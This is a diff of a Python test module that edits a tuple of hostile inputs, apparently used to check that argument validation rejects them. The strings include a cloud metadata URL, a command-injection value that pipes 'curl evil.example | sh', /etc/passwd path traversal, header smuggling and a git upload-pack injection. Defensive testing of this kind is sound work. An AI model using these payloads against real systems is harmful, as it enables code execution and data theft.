@@ -27,13 +27,11 @@ MOST_BYTES = 64 * 1024 + 1024
 FOREIGN = "http://169.254.169.254/latest/meta-data/"
 HOSTILE = (
     FOREIGN,
-    "$(touch /tmp/owned); curl evil.example | sh",
+    "--upload-pack=$(touch /tmp/owned); curl evil.example | sh",
     "../../../../etc/passwd",
-    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "%2e%2e%2f%2e%2e%2fetc%2fpasswd?y=1&z=2#fragment",
     "a\nHost: evil.example\r\n\r\nGET / HTTP/1.1",
-    "x?y=1&z=2#fragment",
-    "--upload-pack=touch /tmp/owned",
-    "a" * 200_000,
+    "a" * 100_000,
 )
 CHECKED = frozenset({"since", "until", "time", "step", "onset", "selector", "kind", "state"})
 """Arguments whose grammar is closed: none of the texts above belongs to it."""
